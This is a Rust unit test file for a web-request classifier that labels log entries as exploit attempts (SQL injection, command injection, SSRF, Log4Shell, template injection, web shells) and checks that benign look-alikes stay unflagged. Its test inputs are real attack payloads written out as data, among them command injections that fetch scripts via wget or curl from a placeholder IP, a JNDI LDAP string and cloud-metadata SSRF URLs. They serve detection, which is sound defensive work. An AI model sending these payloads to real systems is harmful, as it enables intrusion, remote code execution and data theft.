//! Unit tests of the request classes and product rules of `web.exploit`:
//! exact hits and exact misses (benign look-alikes) per class.

use super::config::ExploitConfig;
use super::exploit::Classifier;
use super::request::Req;
use super::rules::RuleFile;
use haboob_model::{Severity, Ts, WebEvent};
use proptest::prelude::*;

fn event<'a>(path: &'a str, query: &'a str, ua: &'a str, status: u16) -> WebEvent<'a> {
    WebEvent {
        ts: Ts(0),
        source_ip: "203.0.113.5".parse().unwrap(),
        method: "GET",
        path,
        query,
        status,
        bytes: 100,
        user_agent: ua,
        referrer: "",
        site: "www.example.org",
        user: "",
        forwarded: "",
        protocol: "",
    }
}

/// Categories and products of one request (`target` split at its first `?`).
fn classify_with(x: &mut Classifier, target: &str, ua: &str) -> (Vec<&'static str>, Vec<String>) {
    let (path, query) = target.split_once('?').unwrap_or((target, ""));
    let w = event(path, query, ua, 404);
    let mut req = Req::default();
    req.fill(&w);
    x.classify_names(&w, &req)
}

fn classify(target: &str) -> (Vec<&'static str>, Vec<String>) {
    let mut x = Classifier::new(&ExploitConfig::default());
    classify_with(&mut x, target, "Mozilla/5.0")
}

fn cats(target: &str) -> Vec<&'static str> {
    classify(target).0
}

#[track_caller]
fn hits(class: &str, targets: &[&str]) {
    for t in targets {
        let c = cats(t);
        assert!(c.contains(&class), "{t}: want {class}, got {c:?}");
    }
}

#[track_caller]
fn quiet(targets: &[&str]) {
    for t in targets {
        let (c, p) = classify(t);
        assert!(
            c.is_empty() && p.is_empty(),
            "{t}: want nothing, got {c:?} {p:?}"
        );
    }
}

#[test]
fn traversal_and_file_inclusion() {
    hits(
        "path_traversal",
        &[
            "/a/..%2f..%2fetc/hosts",
            "/a/%252e%252e%252fsecret",
            "/download?file=..\\..\\boot.ini",
            "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/x",
            "/%u002e%u002e/%u002e%u002e/x",
            "/view?page=/etc/passwd",
            "/index?f=c:/windows/win.ini",
            "/app/web-inf/web.xml",
            "/read?src=file:///etc/hostname",
            "/x/..;/manager/html",
        ],
    );
    hits(
        "php_wrapper",
        &[
            "/index.php?page=php://filter/convert.base64-encode/resource=index",
            "/index.php?page=expect://id",
            "/index.php?page=data:text/plain;base64,PD9waHA=",
            "/index.php?p=phar://x.jpg",
        ],
    );
    // A `file://` inside the path, not a value (an MJ12bot quirk), is not inclusion.
    quiet(&[
        "/misc/nmh//\"file://$file/\"",
        "/docs/data-model",
        "/files/readme.txt",
    ]);
}

#[test]
fn remote_inclusion_and_ssrf() {
    hits("rfi", &["/index.php?page=http://198.51.100.1/shell.txt?"]);
    hits(
        "ssrf",
        &[
            "/proxy?url=http://169.254.169.254/latest/meta-data/",
            "/fetch?u=http://metadata.google.internal/computemetadata/v1/",
            "/img?src=http://100.100.100.200/latest/meta-data",
            "/hook?target=http://localhost:8080/admin",
            "/hook?target=http://[::1]/",
            "/x?u=gopher://127.0.0.1:6379/_info",
            "/x?u=dict://10.0.0.1:11211/stat",
        ],
    );
    quiet(&[
        "/login?next=https://example.org/account",
        "/docs/localhost-setup",
        "/blog/169.254.169.254-explained",
    ]);
}

#[test]
fn sql_injection() {
    hits(
        "sqli",
        &[
            "/item?id=1+UNION+SELECT+password+FROM+users",
            "/item?id=1%20union/**/select%201",
            "/item?id=1'+or+1=1--",
            "/item?id=1'%20OR%20'a'='a",
            "/item?id=1')+or+('1'='1",
            "/item?id=1'+order+by+3--",
            "/item?id=1'%23",
            "/item?id=1+and+sleep(5)",
            "/item?id=1;waitfor+delay+'0:0:5'--",
            "/item?id=extractvalue(1,concat(0x7e,version()))",
            "/item?id=1+and+1=2",
            "/x?q=select+table_name+from+information_schema.tables",
        ],
    );
    quiet(&[
        "/select-your-plan",
        "/search?q=union+station",
        "/search?q=selection+union+station",
        "/search?q=o'reilly+books",
        "/search?q=rock+%27n%27+roll",
        "/a?title=it's+ordered",
        "/order-by-date",
    ]);
}

#[test]
fn command_injection() {
    hits(
        "command_injection",
        &[
            "/ping?host=1.1.1.1;id",
            "/ping?host=1.1.1.1|uname+-a",
            "/ping?host=$(whoami)",
            "/ping?host=`id`",
            "/x?a=1%0acat%20/etc/hostname",
            "/x?a=1;wget+http://198.51.100.1/x.sh",
            "/x?a=1&&curl+-o+/tmp/x+198.51.100.1",
            "/x?a=;/bin/busybox+wget",
            "/x?a=cmd+/c+dir",
            "/x?a=powershell+-enc+AAAA",
            "/cgi-bin/luci/;stok=/locale?form=country&country=$(id)",
            "/x?a=${IFS}",
        ],
    );
    quiet(&[
        "/blog/curl-tips",
        "/blog/powershell-tips",
        "/tags?t=a|cat|dog",
        "/x;jsessionid=abc123",
        "/api/items?fields=id,name",
        "/p?q=cats+%26%26+dogs",
    ]);
}

#[test]
fn template_and_expression_injection() {
    hits(
        "expression_injection",
        &[
            "/x?q=${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
            "/x?q=${dns:address|example.com}",
            "/x?q=${url:UTF-8:http://example.com/}",
            "/index.action?redirect:%25{(#a=1)}",
            "/x?name=${7*7}",
            "/x?name=#{7*7}",
            "/x?name={{7*7}}",
            "/x?name={{config}}",
            "/x?name={{''.__class__.__mro__}}",
            "/x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "/x?class.classLoader.URLs[0]=x",
            "/x?x=%23_memberAccess",
            "/x?x=__import__('os')",
            "/?s=index/think/display&content=%3C?php%20phpinfo();?%3E",
        ],
    );
    hits("log4shell", &["/x?q=${jndi:ldap://198.51.100.1/a}"]);
    // A target sent percent-encoded from its first slash is still a path.
    hits(
        "expression_injection",
        &["%2Fx%3Fq%3D%24%7B%22freemarker.template.utility.Execute%22%3Fnew()(%22id%22)%7D"],
    );
    quiet(&[
        "/track?utm={{campaign}}",
        "/x?tpl=${name}",
        "/x?fmt=%{http_host}",
        "/x?a=#{id}",
        "/blog/templates-{{-and-}}",
    ]);
}

#[test]
fn deserialisation_markers() {
    hits(
        "deserialization",
        &[
            "/x?data=rO0ABXNyABFqYXZh",
            "/x?data=aced0005737200",
            "/x?data=O:8:\"stdClass\":0:{}",
            "/x?y=!!python/object/apply:os.system",
            "/x?c=java.lang.Runtime",
        ],
    );
    quiet(&["/x?token=Zm9vYmFy", "/photos:2024", "/x?ratio=o:5"]);
}

/// Base64 is case-sensitive: Java's `rO0AB` counts in that case only, as
/// written or percent-encoded (once or twice: `%72` is `r`, `%4F` is `O`),
/// in the path or the query; any other case is a random token.
#[test]
fn java_base64_marker_counts_in_its_own_case_only() {
    hits(
        "deserialization",
        &[
            "/x?x=rO0ABXNyABFqYXZh",
            "/api/rO0ABXNy/run",
            "/x?x=%72O0ABXNy",
            "/x?x=r%4F0AB",
            "/x?x=%2572O0ABXNy",
            "/x%2Fy?x=r%4f0AB",
            // A look-alike before the marker does not hide it.
            "/x?a=ro0ab&b=rO0ABXNy",
        ],
    );
    quiet(&[
        "/a/xro0abq.zip",
        "/b/oahxro0ab8.zip",
        "/owriufz9odr2/oahxro0ab8.zip?q=8q8q6f9l",
        "/59ltyndv78vz/ro0abyx3ut.env",
        "/x?t=RO0AB",
        "/x?t=Ro0Ab",
        "/x?t=%52O0AB",
        "/x?t=%2552O0AB",
    ]);
}

/// Every anchor whose case counts is, lower-cased, the anchor matched.
#[test]
fn case_anchors_are_their_anchor() {
    use super::classes::{Check, ANCHORS};
    for (a, _, c) in ANCHORS {
        if let Check::Case(exact) = c {
            assert_eq!(&exact.to_ascii_lowercase(), a);
            assert_ne!(exact, a, "{a:?}: no case to check");
        }
    }
}

#[test]
fn web_shells_and_upload_paths() {
    hits(
        "backdoor",
        &[
            "/wp-content/uploads/2024/05/x.php",
            "/uploads/avatar.phtml",
            "/tmp/a.jsp",
            "/images/up.php",
            "/img/cmd.aspx",
            "/wso.php",
            "/wp-content/plugins/x/shell.php",
            "/shell.php",
            "/c99.php",
            "/shells/r57.php",
            "/x/C99.PHP?act=ls",
            "/a%2Fr57.php",
            "/c99shell.php",
            "/x/r57shell.php",
            "/webshell.php",
            "/x.php?cmd=id",
            "/y.jsp?c=whoami",
            "/z.aspx?exec=cmd.exe",
        ],
    );
    quiet(&[
        "/wp-content/uploads/2024/05/photo.jpg",
        "/images/captcha.php",
        "/index.php?c=news",
        "/index.php?cmd=login",
        "/admin.php?command=save",
        "/uploads/",
        "/php/readme.txt",
    ]);
}

#[test]
fn product_endpoints_name_product_and_cve() {
    let (c, p) = classify("/setup/setupadministrator.action");
    assert_eq!(c, ["setup_probe"]);
    assert_eq!(p, ["Atlassian Confluence"]);
    let (c, p) = classify("/cacti/remote_agent.php?action=polldata&poller_id=;id");
    assert!(
        c.contains(&"cve_probe") && c.contains(&"command_injection"),
        "{c:?}"
    );
    assert_eq!(p, ["Cacti"]);
    let (c, p) = classify("/nwa");
    assert_eq!(
        (c, p),
        (vec!["admin_probe"], vec!["SAP NetWeaver".to_string()])
    );
    assert_eq!(classify("/sap/bc/gui/sap/its/webgui").0, ["admin_probe"]);
    assert_eq!(
        classify("/api/v2/cmdb/system/admin/admin").0,
        ["admin_probe", "cve_probe"]
    );
    // Boundaries: a pattern ending in a letter ends at `/ ? & ; =` or the end.
    quiet(&[
        "/nwalker",
        "/sslmgrx",
        "/scripts/noise",
        "/hnap1x",
        "/remote_agent.php.html",
    ]);
}

#[test]
fn extra_rules_add_products() {
    let extra = RuleFile::parse(
        "[[product]]\nproduct = \"Acme Portal\"\nclass = \"exploit\"\npatterns = [\"/acme/debug\"]\ncve = \"CVE-2099-0001\"\n",
        "extra.toml",
    )
    .unwrap();
    let mut x = Classifier::with_rules(&ExploitConfig::default(), &extra.product);
    let (c, p) = classify_with(&mut x, "/acme/debug?x=1", "");
    assert_eq!((c, p), (vec!["cve_probe"], vec!["Acme Portal".to_string()]));
    assert!(classify("/acme/debug").1.is_empty());
}

#[test]
fn headers_carry_text4shell_and_log4shell() {
    let mut x = Classifier::new(&ExploitConfig::default());
    let (c, _) = classify_with(&mut x, "/", "${script:javascript:1}");
    assert_eq!(c, ["expression_injection"]);
    let (c, _) = classify_with(&mut x, "/", "Mozilla/5.0 ${jndi:dns://x/a}");
    assert_eq!(c, ["log4shell"]);
    assert!(classify_with(&mut x, "/", "Mozilla/5.0 (it's fine)")
        .0
        .is_empty());
}

#[test]
fn severity_follows_the_answer() {
    let mut x = Classifier::new(&ExploitConfig::default());
    let mut sev = |target: &str, status: u16, bytes: u64| {
        let (path, query) = target.split_once('?').unwrap_or((target, ""));
        let mut w = event(path, query, "", status);
        w.bytes = bytes;
        let mut req = Req::default();
        req.fill(&w);
        x.severity_of(&w, &req)
    };
    assert_eq!(sev("/nwa", 404, 0), Severity::Medium);
    assert_eq!(sev("/nwa", 200, 10), Severity::High);
    assert_eq!(
        sev("/setup/setupadministrator.action", 404, 0),
        Severity::High
    );
    assert_eq!(
        sev("/setup/setupadministrator.action", 200, 10),
        Severity::Critical
    );
    assert_eq!(sev("/x?f=../../etc/passwd", 404, 10), Severity::High);
    assert_eq!(sev("/x?f=../../etc/passwd", 200, 0), Severity::High);
    assert_eq!(sev("/x?f=../../etc/passwd", 200, 1200), Severity::Critical);
    assert_eq!(sev("/x?id=1+union+select+1", 200, 1200), Severity::High);
    assert_eq!(sev("/uploads/x.php", 200, 30), Severity::Critical);
    // A web shell that is not there: discovery, medium; any other answer,
    // or another class beside it, keeps the attempt's severity.
    assert_eq!(sev("/uploads/x.php", 404, 0), Severity::Medium);
    assert_eq!(sev("/wso.php", 410, 0), Severity::Medium);
    assert_eq!(sev("/wso.php", 403, 0), Severity::High);
    assert_eq!(sev("/wso.php", 200, 0), Severity::High);
    assert_eq!(sev("/wso.php?f=../../etc/passwd", 404, 0), Severity::High);
}

proptest! {
    #[test]
    fn never_panics_on_arbitrary_bytes(path in proptest::collection::vec(any::<u8>(), 0..300),
                                       query in proptest::collection::vec(any::<u8>(), 0..300),
                                       ua in proptest::collection::vec(any::<u8>(), 0..100)) {
        let path = format!("/{}", String::from_utf8_lossy(&path));
        let query = String::from_utf8_lossy(&query).into_owned();
        let ua = String::from_utf8_lossy(&ua).into_owned();
        let mut x = Classifier::new(&ExploitConfig::default());
        let w = event(&path, &query, &ua, 200);
        let mut req = Req::default();
        req.fill(&w);
        let _ = x.classify_names(&w, &req);
        let _ = x.severity_of(&w, &req);
    }

    #[test]
    fn never_panics_on_anchor_soup(parts in proptest::collection::vec(
        prop::sample::select(vec!["'", "\"", ";", "|", "$(", "${", "#{", "%{", "{{", "}}", "}", "o:", "1", ":\"",
            "/**/", ".php", "?", "&", "=", "cmd=", "c=", "/uploads/", "/", "or ", "and ", "--", "%", "%2", "id", " "]),
        0..40)) {
        let s: String = parts.concat();
        let (path, query) = s.split_once('?').unwrap_or((&s, ""));
        let path = format!("/{path}");
        let mut x = Classifier::new(&ExploitConfig::default());
        let w = event(&path, query, &s, 200);
        let mut req = Req::default();
        req.fill(&w);
        let _ = x.classify_names(&w, &req);
    }
}
